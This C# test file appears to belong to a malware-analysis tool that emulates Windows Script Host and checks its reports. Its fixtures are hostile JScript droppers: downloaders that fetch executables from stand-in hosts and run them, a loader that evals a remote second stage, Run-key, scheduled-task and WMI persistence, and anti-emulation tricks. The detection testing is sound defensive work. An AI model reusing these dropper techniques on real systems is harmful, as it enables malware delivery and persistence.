using System.Text;
using Crible.Configuration;
using Crible.Model;
using Crible.Pipeline;
using Crible.Scanners.Emulation;

namespace Crible.Tests.Scanners.Emulation;

/// <summary>Droppers written by the tests, run in the emulated Windows Script Host: what a user sees in the report.</summary>
public sealed class EmulationTests
{
    private const string Downloader = """
        var shell = WScript.CreateObject("WScript.Shell");
        var path = shell.ExpandEnvironmentStrings("%TEMP%") + "\\invoice.exe";
        var urls = ["http://bad.example.com/a.exe", "http://worse.example.net/b.exe"];
        for (var i = 0; i < urls.length; i++) {
          var http = new ActiveXObject("MSXML2.XMLHTTP");
          http.open("GET", urls[i], false);
          http.send();
          if (http.status == 200) {
            var stream = new ActiveXObject("ADODB.Stream");
            stream.open(); stream.type = 1; stream.write(http.responseBody);
            if (stream.size > 10000) { stream.saveToFile(path, 2); stream.close(); shell.run("cmd.exe /c " + path, 0, false); break; }
          }
        }
        """;

    private static Task<Report> Analyse(string script, string name = "invoice.js", Analyser? analyser = null) =>
        (analyser ?? TestEngine.Default).AnalyseAsync(Encoding.ASCII.GetBytes(script), name);

    private static Finding Emulation(Report report, string id) =>
        Assert.Single(report.AllFindings, f => f.Finding.Scanner == "emulation" && f.Finding.Id == id).Finding;

    [Fact]
    public async Task A_dropper_that_downloads_and_runs_is_malicious_with_its_url_and_command()
    {
        var report = await Analyse(Downloader);

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var finding = Emulation(report, "emulation-download-execute");
        Assert.Contains("T1105", finding.Attack);
        Assert.Contains("T1059.007", finding.Attack);
        Assert.Contains("http://bad.example.com/a.exe", finding.Evidence, StringComparison.Ordinal);
        Assert.Contains(@"WScript.Shell.Run cmd.exe /c C:\Users\admin\AppData\Local\Temp\invoice.exe", finding.Evidence, StringComparison.Ordinal);
        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "http://bad.example.com/a.exe");
        // The static IOC scanner lists every URL of the text; the emulator only the ones the script requested.
        Assert.DoesNotContain(report.Nodes[0].Iocs, i => i.Scanner == "emulation" && i.Value == "http://worse.example.net/b.exe");
        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Command && i.Value.StartsWith("cmd.exe /c", StringComparison.Ordinal));
        Assert.Contains(report.Nodes, n => n.Name == "command-1.txt" && n.Relation == Relation.Decoded);
        Emulation(report, "emulation-executable-dropped");
    }

    [Fact]
    public async Task With_not_found_answers_the_dropper_tries_every_url_and_stays_suspicious()
    {
        using var engine = CribleEngine.Load(new CribleOptions { Emulation = new EmulationOptions { Response = FakeResponse.NotFound } });

        var report = await Analyse(Downloader, analyser: engine.Analyser);

        // The static script scanner may still call the text a dropper; the emulator itself saw no payload run.
        Assert.DoesNotContain(report.AllFindings, f => f.Finding.Scanner == "emulation" && f.Finding.Severity == Severity.Malicious);
        var finding = Emulation(report, "emulation-download");
        Assert.Equal(Severity.Suspicious, finding.Severity);
        Assert.Contains(report.Nodes[0].Iocs, i => i.Scanner == "emulation" && i.Kind == IndicatorKind.Url && i.Value == "http://worse.example.net/b.exe");
        Assert.Contains(report.Nodes[0].Iocs, i => i.Scanner == "emulation" && i.Kind == IndicatorKind.Domain && i.Value == "bad.example.com");
    }

    [Fact]
    public async Task A_loader_that_tries_its_download_on_a_list_of_servers_is_malicious_with_every_url()
    {
        // The second stage is only run when the answer carries the loader's marker, which the stand-in never does.
        var report = await Analyse("""
            var hosts = ["one.example.com", "two.example.net", "three.example.org"];
            var marker = "K7x9Qz";
            for (var i = 0; i < hosts.length; i++) {
              var http = new ActiveXObject("Msxml2.XMLHTTP");
              try {
                http.open("GET", "http://" + hosts[i] + "/counter/?" + marker, false);
                http.send();
                var text = http.responseText;
                if (text.length > 1000 && text.indexOf(marker) > -1) { eval(text.split(marker).join("a")); break; }
              } catch (e) { }
            }
            """);

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var finding = Emulation(report, "emulation-download-fallback");
        Assert.Equal(["T1059.007", "T1105", "T1008"], finding.Attack);
        Assert.Contains("tries 3 servers", finding.Title, StringComparison.Ordinal);
        foreach (var host in new[] { "one.example.com", "two.example.net", "three.example.org" })
        {
            Assert.Contains(report.Nodes[0].Iocs, i => i.Scanner == "emulation" && i.Kind == IndicatorKind.Url && i.Value == $"http://{host}/counter/?K7x9Qz");
        }
    }

    [Fact]
    public async Task A_script_that_writes_a_second_script_and_starts_it_is_malicious()
    {
        var report = await Analyse("""
            var fso = new ActiveXObject("Scripting.FileSystemObject");
            var shell = new ActiveXObject("WScript.Shell");
            var path = shell.ExpandEnvironmentStrings("%TEMP%") + "\\stage2.js";
            var file = fso.CreateTextFile(path, true);
            file.Write("var x = 1;");
            file.Close();
            shell.Run("wscript.exe \"" + path + "\"", 0, false);
            """);

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var finding = Emulation(report, "emulation-drop-execute");
        Assert.Contains(@"C:\Users\admin\AppData\Local\Temp\stage2.js", finding.Evidence, StringComparison.Ordinal);
        Assert.Contains("WScript.Shell.Run wscript.exe", finding.Evidence, StringComparison.Ordinal);
        Assert.Contains(report.Nodes, n => n.Name == "stage2.js" && n.Relation == Relation.Dropped);
    }

    [Fact]
    public async Task A_script_that_writes_a_text_file_and_opens_it_in_notepad_is_not_malicious()
    {
        var report = await Analyse("""
            var fso = new ActiveXObject("Scripting.FileSystemObject");
            var shell = new ActiveXObject("WScript.Shell");
            var file = fso.CreateTextFile("C:\\Users\\Public\\notes.txt", true);
            file.WriteLine("Meeting at ten.");
            file.Close();
            shell.Run("notepad.exe C:\\Users\\Public\\notes.txt", 1, false);
            """);

        Assert.DoesNotContain(report.AllFindings, f => f.Finding.Scanner == "emulation" && f.Finding.Severity == Severity.Malicious);
        Assert.Equal(Severity.Suspicious, Emulation(report, "emulation-command").Severity);
    }

    [Fact]
    public async Task A_url_joined_from_hundreds_of_fragments_is_recovered_despite_the_engine_nesting_limit()
    {
        // 600 fragments in one a + b + ... chain: deeper than the 256 levels Jint prepares, so the chain is flattened.
        const string Url = "http://fragments.example.org/payload/stage2.exe";
        var parts = Enumerable.Range(0, 600).Select(i => i < Url.Length ? Url[i].ToString() : "").ToList();
        var declarations = string.Concat(parts.Select((p, i) => $"var f{i} = \"{p}\";\n"));
        // Numbers first: the sum stays left to right, 1 + 2 is 3 before any string joins in.
        var chain = "1 + 2 + " + string.Join(" + ", parts.Select((_, i) => $"f{i}"));
        var script = declarations + $$"""
            var joined = {{chain}};
            var url = joined.substring(1);
            var http = new ActiveXObject("MSXML2.XMLHTTP");
            http.open("GET", url, false);
            http.send();
            new ActiveXObject("WScript.Shell").Run(joined.charAt(0) == "3" ? "cmd /c start stage2.exe" : "wrong order", 0);
            """;

        var report = await Analyse(script);

        Assert.Equal(Verdict.Malicious, report.Verdict);
        Assert.Contains(report.Nodes[0].Iocs, i => i.Scanner == "emulation" && i.Kind == IndicatorKind.Url && i.Value == Url);
        Assert.Contains("cmd /c start stage2.exe", Emulation(report, "emulation-download-execute").Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_payload_decoded_from_base64_is_emitted_as_a_dropped_file_and_analysed()
    {
        var payload = "@echo off\r\nstart calc.exe\r\n";
        var script = $$"""
            var xml = new ActiveXObject("Microsoft.XMLDOM").createElement("b64");
            xml.dataType = "bin.base64";
            xml.text = "{{Convert.ToBase64String(Encoding.ASCII.GetBytes(payload))}}";
            var s = new ActiveXObject("ADODB.Stream");
            s.Type = 1; s.Open(); s.Write(xml.nodeTypedValue);
            s.SaveToFile("C:\\Users\\Public\\run.bat", 2);
            """;

        var report = await Analyse(script);

        var dropped = Assert.Single(report.Nodes, n => n.Relation == Relation.Dropped);
        Assert.Equal("run.bat", dropped.Name);
        Assert.Equal(payload.Length, dropped.Size);
        Assert.Equal("batch", dropped.Kind);
        Assert.Equal(Severity.Info, Emulation(report, "emulation-file-written").Severity);
    }

    [Fact]
    public async Task Run_keys_scheduled_tasks_and_wmi_are_reported_with_their_techniques()
    {
        var script = """
            var sh = new ActiveXObject("WScript.Shell");
            sh.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater", "wscript.exe C:\\Users\\Public\\u.js", "REG_SZ");
            var svc = new ActiveXObject("Schedule.Service"); svc.Connect();
            var task = svc.NewTask(0); var action = task.Actions.Create(0);
            action.Path = "C:\\Users\\Public\\u.exe"; action.Arguments = "/quiet";
            svc.GetFolder("\\").RegisterTaskDefinition("Updater", task, 6, null, null, 3);
            GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2:Win32_Process").Create("powershell -nop -w hidden -c calc", null, null, 0);
            """;

        var report = await Analyse(script);

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var persistence = Emulation(report, "emulation-persistence");
        Assert.Contains("T1547.001", persistence.Attack);
        Assert.Contains("T1053.005", persistence.Attack);
        Assert.Contains(@"Run\updater", persistence.Evidence, StringComparison.Ordinal);
        Assert.Contains(@"C:\Users\Public\u.exe /quiet", persistence.Evidence, StringComparison.Ordinal);
        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Registry && i.Value.EndsWith(@"Run\updater", StringComparison.Ordinal));
        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Command && i.Value == "powershell -nop -w hidden -c calc");
        Assert.Contains(report.Nodes, n => n.Name == "command-1.txt" && n.Relation == Relation.Decoded);
    }

    [Fact]
    public async Task Code_hidden_in_conditional_compilation_and_eval_runs_and_is_emitted_when_large()
    {
        var padding = new string(' ', 1200);
        var script = $$"""
            var parts = ["var h = new Active", "XObject('WScript.Shell');{{padding}} h.Run('calc.exe');"];
            function go(code) { eval(code); }
            /*@cc_on @if (@_win32) go(parts.join("")); @end @*/
            """;

        var report = await Analyse(script);

        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Command && i.Value == "calc.exe");
        Assert.Contains(report.Nodes, n => n.Name == "emulation-code-1.js" && n.Relation == Relation.Decoded);
        Assert.Contains("code strings run: 1", Emulation(report, "emulation-summary").Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Scripts_cannot_reach_the_clr()
    {
        var script = """
            var seen = [typeof System, typeof importNamespace, typeof clr, typeof host,
              (function () {}).constructor("return typeof System")(), typeof WScript.CreateObject.constructor.GetType];
            new ActiveXObject("WScript.Shell").Run(seen.join("|"));
            """;

        var report = await Analyse(script);

        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Command && i.Value == "undefined|undefined|undefined|undefined|undefined|undefined");
    }

    [Fact]
    public async Task A_script_that_loops_forever_is_stopped_and_reported_without_hanging()
    {
        using var engine = CribleEngine.Load(new CribleOptions { Emulation = new EmulationOptions { Budget = TimeSpan.FromSeconds(1) } });

        var stalling = await Analyse("function spin() {\n  for (var i = 0; ; i++) { }\n}\nvar result = spin();\n", analyser: engine.Analyser);
        var growing = await Analyse("function grow() {\n  var s = 'abcd';\n  for (var i = 0; ; i++) { s = s + s; }\n}\nvar result = grow();\n", analyser: engine.Analyser);
        var dropperThenLoop = await Analyse(Downloader + "\nwhile (true) {}", analyser: engine.Analyser);

        Assert.Equal(Severity.Suspicious, Emulation(stalling, "emulation-stopped").Severity);
        Assert.Contains(stalling.Nodes[0].Incomplete, r => r.StartsWith("emulation:", StringComparison.Ordinal));
        Assert.Matches("stopped|ended with an error", Emulation(growing, "emulation-summary").Evidence);
        Assert.Equal(Verdict.Malicious, dropperThenLoop.Verdict);
        Assert.Equal(Severity.Info, Emulation(dropperThenLoop, "emulation-stopped").Severity);
        Assert.DoesNotContain(dropperThenLoop.Nodes[0].Incomplete, r => r.StartsWith("emulation", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Anti_emulation_checks_see_a_windows_host()
    {
        var script = """
            var sh = WScript.CreateObject("WScript.Shell");
            var before = new Date();
            WScript.Sleep(5000);
            var ok = (new Date() - before) >= 5000 && sh.Environment("SYSTEM")("ComSpec") == "%SystemRoot%\\system32\\cmd.exe"
              && WScript.ScriptName == "invoice.js" && new ActiveXObject("scripting.filesystemobject").FileExists(WScript.ScriptFullName);
            if (!ok) { WScript.Quit(1); }
            sh.Run("checks-passed");
            """;

        var report = await Analyse(script);

        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Command && i.Value == "checks-passed");
    }
}
